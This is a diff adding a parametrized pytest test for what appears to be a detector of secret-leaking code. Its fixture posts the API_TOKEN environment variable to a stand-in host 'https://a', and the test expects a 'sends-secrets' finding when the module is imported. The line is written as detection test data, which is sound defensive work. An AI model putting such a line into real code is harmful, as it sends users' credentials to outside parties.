@@ -297,3 +297,17 @@ def test_what_another_module_gives_and_what_is_sent_are_two_things(tmp_path: Pat
     files = {"sample/__init__.py": main, "sample/a.py": GATHER, "sample/b.py": DELIVER}
 
     assert rules(tmp_path, files, "sample/__init__.py") == set()
+
+
+@pytest.mark.parametrize(
+    ("init", "found"), [("", set()), ("from . import __main__", {"sends-secrets"})]
+)
+def test_a_program_that_is_started_with_m_waits_unless_it_is_imported(
+    tmp_path: Path, init: str, found: set[str]
+) -> None:
+    main = (
+        "import os, requests\nrequests.post('https://a', headers={'t': os.environ['API_TOKEN']})\n"
+    )
+    files = {"sample/__init__.py": init, "sample/__main__.py": main}
+
+    assert rules(tmp_path, files, "sample/__main__.py") == found
